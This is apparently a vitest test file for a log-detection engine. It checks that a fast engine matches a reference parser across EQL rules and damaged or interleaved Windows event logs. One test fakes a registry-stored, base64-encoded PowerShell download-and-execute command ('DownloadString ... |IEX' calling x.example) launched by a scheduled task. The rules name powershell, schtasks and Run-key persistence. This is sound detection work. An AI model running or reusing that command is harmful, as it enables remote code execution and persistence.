/**
 * The fast engine reads of a line what is asked for, and the reference parses it: all that is found and counted is the
 * same, with few rules and with many.
 */
import { describe, expect, it, vi } from "vitest";
import type { AlertDocument } from "../../src/export/alert-document.ts";
import type { RuleFileText } from "../../src/rule/rule-file.ts";
import { LineRows } from "../../src/event/line-rows.ts";
import { Detector } from "../../src/lib/detector.ts";
import { bundledRuleFiles } from "../../src/rule/bundled.ts";
import { unevenLog } from "../support/ahead.ts";
import {
  CAPTURES,
  captureBytes,
  hasCorpus,
  SAMPLE_NAMES,
  sampleBytes,
} from "../support/captures.ts";
import { CONVERTERS, recordOfWinlogbeat } from "../support/convert.ts";
import { Random } from "../support/random.ts";
import { scanFiles } from "../support/scan.ts";
import type { ScanResult } from "../support/scan.ts";

const bare = (name: string, text: string): RuleFileText => ({
  path: `${name}.eql`,
  text,
});

/** Every kind of rule, and conditions on fields of every origin: one key, two, constants, the envelope, the message. */
const MANY: readonly RuleFileText[] = [
  ...bundledRuleFiles(),
  bare("run", `registry where registry.path : "*\\\\Run\\\\*"`),
  bare("start", `process where event.type == "start" and process.args : "/c*"`),
  bare(
    "command",
    `process where process.command_line : ("*schtasks*", "*powershell*")`,
  ),
  bare(
    "hosted",
    `any where host.os.type == "windows" and event.code == "4624"`,
  ),
  bare("action", `any where event.action : "*logon*" and user.name : "*$"`),
  bare("message", `any where message : "*cleared*"`),
  bare("object", `file where file.path : "*\\\\System32\\\\Tasks\\\\*"`),
  bare("port", `network where destination.port == 135 or source.port > 60000`),
  bare("absent", `library where dll.name : "a*" and not user.id == "S-1-5-18"`),
  bare(
    "sequence",
    `sequence by host.id with maxspan=1m [process where true] [network where true] until [process where event.type == "end"]`,
  ),
  bare(
    "lineage",
    `process where descendant of [process where process.name : "svchost.exe"]`,
  ),
  bare("data", `any where winlog.event_data.GrantedAccess == "0x1010"`),
];
/** Nothing tells of it without asking. */
const ABOUT_ANY = bare(
  "any",
  `sequence by host.id with maxspan=1s [any where process.name != user.name] [any where process.name == user.name]`,
);
const FEW = [undefined, [bare("one", `dns where dns.question.name : "*.ru"`)]];

/**
 * An alert of a single event is told when the clock of the machine says so, with what is known of its task by then, and a
 * row of a search is revised so often; what is known of tasks in the end is compared apart.
 */
const withoutTasks = (alert: AlertDocument): object =>
  Object.fromEntries(
    Object.entries(alert).filter(
      ([name]) =>
        !/^tripline\.(?:actions|hints|revision|tasks|task_target)$/.test(name),
    ),
  );

const compare = (
  content: Buffer,
  rules: readonly RuleFileText[] | undefined,
): Promise<ScanResult> => compareFiles({ "log.ndjson": content }, rules);

async function compareFiles(
  files: Readonly<Record<string, Buffer | string>>,
  rules: readonly RuleFileText[] | undefined,
): Promise<ScanResult> {
  const settings = rules === undefined ? {} : { rules };
  const fast = await scanFiles(files, settings);
  const reference = await scanFiles(files, { ...settings, indexed: false });
  expect(fast.alerts.map(withoutTasks)).toEqual(
    reference.alerts.map(withoutTasks),
  );
  expect(fast.counters).toEqual(reference.counters);
  expect(fast.tasks).toBe(reference.tasks);
  expect(fast.badLines).toEqual(reference.badLines);
  expect(fast.health).toEqual(reference.health);
  expect(fast.flows).toEqual(reference.flows);
  expect(fast.statuses).toEqual(reference.statuses);
  return fast;
}

/** Compares as {@link compare}. @returns how many lines there are; at how many the fast engine looked first; how many it parsed */
async function howOpened(
  content: string,
  rules: readonly RuleFileText[],
): Promise<Record<"lines" | "lookedAt" | "parsed", number>> {
  const next = vi.spyOn(LineRows.prototype, "next");
  const openLine = vi.spyOn(Detector.prototype, "openLine");
  try {
    await compare(Buffer.from(content), rules);
    const { calls, contexts } = openLine.mock;
    // The reference opens each line, and looks at no rows.
    const isFast = contexts.map(
      (detector) => (detector as Detector).documents !== undefined,
    );
    const lines = isFast.filter((each) => !each).length;
    const parsed = calls.filter(
      ([, , isParsed], i) => isFast[i]! && isParsed === true,
    );
    return { lines, lookedAt: next.mock.calls.length, parsed: parsed.length };
  } finally {
    next.mockRestore();
    openLine.mockRestore();
  }
}

/** Lines of a log dealt out to several, which are read side by side. */
function dealtOut(content: Buffer, seed: number): Record<string, string> {
  const random = new Random(seed);
  const logs: Record<string, string> = { a: "", b: "", c: "" };
  for (const line of content.toString("utf8").split("\n")) {
    const name = "abc"[random.int(3)]!;
    // Now and then a line that is none, or ends otherwise, or is spread over several.
    const how = random.int(40);
    logs[name] +=
      how === 0
        ? ` ${line}\n`
        : how === 1
          ? `${line}\r\n\n`
          : how === 2
            ? `${line.replace(",", ",\n ")}\n`
            : how === 3
              ? `{"broken":\n${line}\n`
              : `${line}\n`;
  }
  return Object.fromEntries(
    Object.entries(logs).map(([name, text]) => [`${name}.ndjson`, text]),
  );
}

/** Lines cut, joined, spelt with escapes, with a key twice, with other bytes, and late ones. */
function damaged(content: Buffer, seed: number): Buffer {
  const random = new Random(seed);
  const lines = content.toString("utf8").split("\n");
  for (let i = 0; i < lines.length; i++) {
    const line = lines[i]!;
    switch (random.int(12)) {
      case 0:
        lines[i] = line.slice(0, random.int(line.length + 1));
        break;
      case 1:
        lines[i] = line.replace(/[A-Za-z]/g, (letter) =>
          random.int(9) > 0
            ? letter
            : `\\u${letter.charCodeAt(0).toString(16).padStart(4, "0")}`,
        );
        break;
      case 2:
        lines[i] = line.replace("{", '{"EventID":1,"Channel":null,');
        break;
      case 3:
        lines[i] = line.replace(/:"[^"]*"/, ":17");
        break;
      case 4:
        lines[i] = line.replace(/"([a-z]+)":/i, '"$1.x":');
        break;
      case 5:
        [lines[i], lines[0]] = [lines[0]!, line];
        break;
      case 6:
        lines[i] = line.replace(/,/g, random.int(2) === 0 ? " ,\t" : ",,");
    }
  }
  return Buffer.from(lines.join("\n"));
}

describe("the fast engine", () => {
  it.each(SAMPLE_NAMES)(
    "finds what the reference finds in %s",
    async (name) => {
      for (const rules of [...FEW, MANY])
        await compare(sampleBytes(name), rules);
    },
  );

  it("finds the same in damaged lines", async () => {
    for (let seed = 1; seed <= 4; seed++) {
      const content = damaged(sampleBytes("incident-winlogbeat"), seed);
      await compare(content, undefined);
      await compare(content, MANY);
    }
  });

  it("finds the same in logs that are read side by side", async () => {
    for (let seed = 1; seed <= 3; seed++) {
      const logs = dealtOut(sampleBytes("incident-winlogbeat"), seed);
      await compareFiles(logs, undefined);
      await compareFiles(logs, MANY);
    }
  });

  it("finds the same of a task's code that was written to the registry", async () => {
    const at = (i: number): string =>
      `2020-09-21 07:15:${String(10 + i).padStart(2, "0")}`;
    const written = (i: number, name: string, details: string): object => ({
      EventTime: at(i),
      UtcTime: `${at(i)}.000`,
      Hostname: "W5",
      EventID: 13,
      SourceName: "Microsoft-Windows-Sysmon",
      Channel: "Microsoft-Windows-Sysmon/Operational",
      RecordNumber: i + 1,
      SourceModuleType: "im_msvistalog",
      EventType: "SetValue",
      TargetObject: `HKU\\S-1-5-21-1-2-3-1104\\Software\\Debug\\${name}`,
      Details: details,
    });
    const code = Buffer.from(
      "(New-Object Net.WebClient).DownloadString('http://x.example/y')|IEX # and more",
      "utf16le",
    ).toString("base64");
    const created = {
      EventTime: at(31),
      Hostname: "W5",
      EventID: 4698,
      SourceName: "Microsoft-Windows-Security-Auditing",
      Channel: "Security",
      RecordNumber: 900,
      SourceModuleType: "im_msvistalog",
      SubjectUserName: "anna",
      TaskName: "\\Updater",
      TaskContent:
        "<Task><Actions><Exec><Command>powershell.exe</Command><Arguments>-c IEX (gp HKCU:\\Software\\Debug code).code</Arguments></Exec></Actions></Task>",
    };
    const log = [
      ...Array.from({ length: 30 }, (_, i) => written(i, `n${i}`, "Binary")),
      written(30, "code", code),
      created,
    ];
    const text = log.map((doc) => `${JSON.stringify(doc)}\n`).join("");
    const { tasks } = await compare(Buffer.from(text), undefined);
    expect(tasks).toContain("DownloadString");
  });

  it("finds the same where no line can be passed, and reads lines by their keys", async () => {
    const { lines, lookedAt, parsed } = await howOpened(unevenLog(24), [
      ...MANY,
      ABOUT_ANY,
    ]);
    expect(lines).toBeGreaterThan(10_000);
    expect(lookedAt).toBeLessThan(0.5 * lines);
    expect(parsed).toBeLessThan(0.1 * lines);
  }, 60_000);

  it("finds the same where lines have to be parsed, and looks at few of them first", async () => {
    const incident = sampleBytes("incident-winlogbeat").toString("utf8").trim();
    const written = incident.split("\n").map((line) => {
      const doc = JSON.parse(line) as Readonly<Record<string, unknown>>;
      return `${CONVERTERS.EvtxECmd(recordOfWinlogbeat(doc))}\n`;
    });
    const times = Math.ceil(4_000 / written.length);
    const { lines, lookedAt, parsed } = await howOpened(
      written.join("").repeat(times),
      MANY,
    );
    expect(lookedAt).toBeLessThan(0.5 * lines);
    expect(parsed).toBeGreaterThan(0.9 * lines);
  }, 60_000);

  it.skipIf(!hasCorpus)(
    "finds the same in the captures of ../shared/corpus",
    async () => {
      for (const name of CAPTURES) {
        const content = captureBytes(name);
        for (const rules of [...FEW, MANY]) await compare(content, rules);
        await compare(damaged(content, 7), MANY);
        await compareFiles(dealtOut(content, 9), undefined);
      }
    },
  );
});
